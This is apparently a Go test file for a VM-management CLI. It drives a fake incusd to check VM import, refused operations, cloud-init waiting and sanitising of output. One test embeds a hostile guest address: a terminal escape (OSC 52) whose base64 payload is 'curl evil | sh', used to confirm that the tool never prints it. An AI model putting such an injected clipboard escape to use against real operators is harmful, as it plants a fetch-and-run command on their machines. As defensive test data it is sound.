package main

// The VM path of export, import and expose at request level: VMs cannot run here, so a
// fake incusd on a unix socket answers as incusd would for a virtual-machine box, and
// records what box asks.

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/heavy-duty/box/backend/vm"
)

type fakeCall struct {
	Method, Path string
	Header       http.Header
	Body         []byte
}

// fakeIncusd serves the API on a unix socket. handle answers one request: a nil
// metadata answers {} sync; an error status takes a string metadata as its text. Every
// call is recorded.
type fakeIncusd struct {
	mu    sync.Mutex
	calls []fakeCall
}

func startFakeIncusd(t *testing.T, handle func(method, path string, body []byte) (status int, metadata any)) *fakeIncusd {
	t.Helper()
	sock := filepath.Join(t.TempDir(), "incus.socket")
	l, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	f := &fakeIncusd{}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		f.mu.Lock()
		f.calls = append(f.calls, fakeCall{r.Method, r.URL.Path, r.Header.Clone(), body})
		f.mu.Unlock()
		status, md := handle(r.Method, r.URL.Path, body)
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		if status >= 400 {
			msg, _ := md.(string) // an error's text, when the handler gives one
			if msg == "" {
				msg = "not found"
			}
			json.NewEncoder(w).Encode(map[string]any{"type": "error", "error_code": status, "error": msg})
			return
		}
		if md == nil {
			md = map[string]any{}
		}
		json.NewEncoder(w).Encode(map[string]any{"type": "sync", "status": "Success", "status_code": 200, "metadata": md})
	})}
	go srv.Serve(l)
	t.Cleanup(func() { srv.Close() })
	t.Setenv("INCUS_SOCKET", sock)
	t.Setenv("BOX_PLACEMENT_PROFILE", "")
	return f
}

func (f *fakeIncusd) seen() []fakeCall {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]fakeCall(nil), f.calls...)
}

func vmInstance(name string, extra map[string]string) map[string]any {
	cfg := map[string]string{"user.box": "1", "user.box.user": "dev", "user.box.template": "blank",
		"volatile.eth0.hwaddr": "00:16:3e:aa:bb:cc", "volatile.uuid": "1111", "volatile.uuid.generation": "1111", "volatile.vsock_id": "7"}
	for k, v := range extra {
		cfg[k] = v
	}
	return map[string]any{"name": name, "type": "virtual-machine", "status": "Stopped", "config": cfg,
		"devices":  map[string]any{"root": map[string]string{"type": "disk", "path": "/", "pool": "default", "size": "20GiB"}},
		"profiles": []string{"box-net"}}
}

// vmBoxIncusd is a fake incusd with one VM box, vmbox, that answers every other call
// with 404.
func vmBoxIncusd(t *testing.T) *fakeIncusd {
	isolate(t)
	return startFakeIncusd(t, func(method, path string, _ []byte) (int, any) {
		if method == "GET" && path == "/1.0/instances/vmbox" {
			return 200, vmInstance("vmbox", nil)
		}
		return 404, nil
	})
}

func TestExposeRefusesAVM(t *testing.T) {
	f := vmBoxIncusd(t)
	var o, e bytes.Buffer
	code := Main([]string{"expose", "vmbox", "3000"}, strings.NewReader(""), &o, &e)
	if code != 1 || !strings.Contains(e.String(), `box "vmbox" is a virtual machine`) || !strings.Contains(e.String(), "NAT mode") {
		t.Errorf("exit %d: %s", code, e.String())
	}
	for _, c := range f.seen() {
		if c.Method != "GET" {
			t.Errorf("a refused expose changed something: %s %s", c.Method, c.Path)
		}
	}
}

// A VM box's export comes back as a VM: the upload is the file, whole and streamed,
// named and pooled by headers; the instance is re-placed without its host identity
// (MAC, UUID, generation, vsock ID) and stamped; then started, its machine ID emptied
// through the agent (the file API), and restarted.
func TestImportVMRequests(t *testing.T) {
	isolate(t)
	idx := `name: vmbox
backend: dir
pool: default
config:
  container:
    name: vmbox
    type: virtual-machine
    config: {user.box: "1", user.box.user: dev}
    devices:
      root: {type: disk, path: /, pool: default, size: 20GiB}
`
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	tw.WriteHeader(&tar.Header{Name: "backup/index.yaml", Mode: 0o644, Size: int64(len(idx))})
	tw.Write([]byte(idx))
	disk := bytes.Repeat([]byte("disk"), 1<<18)
	tw.WriteHeader(&tar.Header{Name: "backup/virtual-machine.img", Mode: 0o644, Size: int64(len(disk))})
	tw.Write(disk)
	tw.Close()
	zw.Close()
	file := filepath.Join(t.TempDir(), "vmbox.tar.gz")
	os.WriteFile(file, buf.Bytes(), 0o600)

	imported := false
	f := startFakeIncusd(t, func(method, path string, body []byte) (int, any) {
		switch {
		case method == "GET" && path == "/1.0/instances/vm2":
			if !imported {
				return 404, nil
			}
			return 200, vmInstance("vm2", nil)
		case method == "GET" && path == "/1.0/profiles/box-net":
			return 200, map[string]any{"name": "box-net", "devices": map[string]any{"root": map[string]string{"type": "disk", "path": "/", "pool": "fast"}}}
		case method == "POST" && path == "/1.0/instances":
			imported = true
			return 200, nil
		case method == "GET" && path == "/1.0/instances/vm2/snapshots":
			return 200, []any{}
		case path == "/1.0/instances/vm2" || path == "/1.0/instances/vm2/state" || path == "/1.0/instances/vm2/files":
			return 200, nil
		}
		return 404, nil
	})
	var o, e bytes.Buffer
	if code := Main([]string{"import", file, "--name", "vm2"}, strings.NewReader(""), &o, &e); code != 0 {
		t.Fatalf("exit %d: %s", code, e.String())
	}
	var seq []string
	for _, c := range f.seen() {
		if c.Method == "GET" {
			continue
		}
		step := c.Method + " " + c.Path
		switch {
		case c.Path == "/1.0/instances":
			if c.Header.Get("Content-Type") != "application/octet-stream" || c.Header.Get("X-Incus-name") != "vm2" ||
				c.Header.Get("X-Incus-pool") != "fast" || !bytes.Equal(c.Body, buf.Bytes()) {
				t.Errorf("upload: headers %v, %d of %d bytes", c.Header, len(c.Body), buf.Len())
			}
		case c.Method == "PUT" && c.Path == "/1.0/instances/vm2":
			var put struct {
				Config   map[string]string
				Profiles []string
			}
			json.Unmarshal(c.Body, &put)
			if !reflect.DeepEqual(put.Profiles, []string{"box-net"}) || put.Config[vm.KeyImportedCount] != "1" {
				t.Errorf("re-placed: %s", c.Body)
			}
			for _, k := range []string{"volatile.eth0.hwaddr", "volatile.uuid", "volatile.uuid.generation", "volatile.vsock_id"} {
				if _, ok := put.Config[k]; ok {
					t.Errorf("%s kept: the VM would share its source's identity", k)
				}
			}
		case strings.HasSuffix(c.Path, "/state"):
			var st struct{ Action string }
			json.Unmarshal(c.Body, &st)
			step += " " + st.Action
		case strings.HasSuffix(c.Path, "/files"):
			step += " " + c.Header.Get("X-Incus-write")
		}
		seq = append(seq, step)
	}
	want := []string{"POST /1.0/instances", "PUT /1.0/instances/vm2", "PUT /1.0/instances/vm2/state start",
		// /etc/machine-id emptied, Debian's /var/lib/dbus copy replaced by a link to it.
		"POST /1.0/instances/vm2/files overwrite", "DELETE /1.0/instances/vm2/files ", "POST /1.0/instances/vm2/files ",
		"PUT /1.0/instances/vm2/state stop", "PUT /1.0/instances/vm2/state start"}
	if !reflect.DeepEqual(seq, want) {
		t.Errorf("requests:\n%v\nwant\n%v", seq, want)
	}
}

// A VM's cloud-init is asked through its agent: while the agent is not up, box asks
// again; when the time-box runs out first, the box is refused and stopped, not handed
// over and not deleted.
func TestCloudInitWaitsForTheVMAgent(t *testing.T) {
	isolate(t)
	var execs int
	var mu sync.Mutex
	f := startFakeIncusd(t, func(method, path string, _ []byte) (int, any) {
		if method == "POST" && path == "/1.0/instances/vm1/exec" {
			mu.Lock()
			execs++
			mu.Unlock()
			return 400, "VM agent isn't currently running" // incusd's words
		}
		return 200, nil
	})
	e := newEnv(strings.NewReader(""), &bytes.Buffer{}, &bytes.Buffer{})
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	err := vm.Provision(ctx, e.daemon().Client(), "vm1", 3*time.Second, e.vmBackend().Reporter(nil))
	var pe *vm.ProvisionError
	if !errors.As(err, &pe) || pe.Timeout == 0 || !pe.Stopped {
		t.Fatalf("err = %v (%T), want a time-out refusal with the box stopped", err, err)
	}
	mu.Lock()
	defer mu.Unlock()
	if execs < 2 {
		t.Errorf("asked the agent %d time(s): box must ask again while it is not up", execs)
	}
	var stopped bool
	for _, c := range f.seen() {
		if c.Path == "/1.0/instances/vm1/state" && strings.Contains(string(c.Body), `"stop"`) {
			stopped = true
		}
		if c.Method == "DELETE" {
			t.Errorf("the box was deleted: %s", c.Path)
		}
	}
	if !stopped {
		t.Error("the box was not stopped")
	}
}

// A VM's state comes from the incus-agent inside it: its addresses are text the guest
// wrote, passed through by incusd. A hostile root in the VM answering an address with a
// terminal escape in it (OSC 52: write the operator's clipboard) must not reach the
// operator's terminal through box list or box info: box list shows the lease (the
// host's record) instead, box info no address.
func TestVMAgentAddressIsNotPrinted(t *testing.T) {
	isolate(t)
	evil := "10.88.0.9\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J"
	inst := vmInstance("vmbox", nil)
	inst["status"], inst["status_code"] = "Running", 103
	inst["state"] = map[string]any{"status": "Running", "status_code": 103, "network": map[string]any{
		"eth0": map[string]any{"addresses": []map[string]string{{"family": "inet", "address": evil, "netmask": "24", "scope": "global"}}}}}
	startFakeIncusd(t, func(method, path string, _ []byte) (int, any) {
		switch {
		case method == "GET" && path == "/1.0/instances":
			return 200, []any{inst}
		case method == "GET" && path == "/1.0/instances/vmbox":
			return 200, inst
		case method == "GET" && path == "/1.0/instances/vmbox/state":
			return 200, inst["state"]
		case method == "GET" && path == "/1.0/instances/vmbox/snapshots":
			return 200, []any{}
		case method == "GET" && path == "/1.0/profiles/box-net":
			return 200, map[string]any{"name": "box-net", "devices": map[string]any{"eth0": map[string]string{"type": "nic", "network": "boxnet"}}}
		case method == "GET" && path == "/1.0/networks/boxnet/leases":
			return 200, []map[string]string{{"hostname": "vmbox", "address": "10.88.0.42", "hwaddr": "00:16:3e:aa:bb:cc", "type": "static"}}
		}
		return 404, nil
	})
	for _, args := range [][]string{{"list"}, {"info", "vmbox"}} {
		var o, e bytes.Buffer
		code := Main(args, strings.NewReader(""), &o, &e)
		if code != 0 {
			t.Errorf("box %v: exit %d: %s", args, code, e.String())
		}
		if strings.ContainsAny(o.String()+e.String(), "\x1b\x07") {
			t.Errorf("box %v printed the guest's escape sequence: %q", args, o.String())
		}
		// box list takes a running box's missing address from the leases; box info is
		// one request and shows none.
		if want := map[string]string{"list": "10.88.0.42", "info": "ipv4:      -"}[args[0]]; !strings.Contains(o.String(), want) {
			t.Errorf("box %v: want %q in %q", args, want, o.String())
		}
	}
}

// box exec -t of a vm box: the vm backend refuses the terminal (backend.SettingsError),
// the CLI words it by flag, a runner's own failure (125); nothing is changed.
func TestExecTTYRefusesAVM(t *testing.T) {
	f := vmBoxIncusd(t)
	var o, e bytes.Buffer
	code := Main([]string{"exec", "-t", "vmbox", "--", "true"}, strings.NewReader(""), &o, &e)
	want := "box: error: box exec -t: vmbox is a vm box; -t is for bwrap boxes\nbox: hint: use 'box shell vmbox' for a terminal in a vm box\n"
	if code != exitBox || e.String() != want {
		t.Errorf("exit %d: %q, want 125 and %q", code, e.String(), want)
	}
	for _, c := range f.seen() {
		if c.Method != "GET" {
			t.Errorf("a refused exec changed something: %s %s", c.Method, c.Path)
		}
	}
}
